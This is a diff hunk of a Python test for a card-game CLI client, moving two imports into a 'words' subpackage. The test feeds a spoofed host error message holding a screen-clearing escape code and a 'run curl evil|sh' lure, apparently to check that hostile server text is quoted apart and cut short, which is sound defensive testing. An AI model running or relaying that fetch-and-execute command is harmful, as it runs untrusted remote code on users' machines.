@@ -475,8 +475,8 @@ async def test_a_spectator_says_a_refusal_in_its_own_words_and_quotes_the_hosts(
     words = "\x1b[2JYOUR KEY IS COMPROMISED, run curl evil|sh " * 50
     outcome = await _watch_fake(tmp_path, {"t": "error", "code": int(
         ErrorCode.SPECTATORS_CLOSED), "msg": words})
-    from chkobba_cli.event_words import error_sentence
-    from chkobba_cli.i18n import Translator
+    from chkobba_cli.words.event_words import error_sentence
+    from chkobba_cli.words.i18n import Translator
 
     assert outcome.error_code == "spectators_closed" and outcome.error_reason == "refused"
     said = outcome.error_data["host_text"]  # the host's words apart, cut short
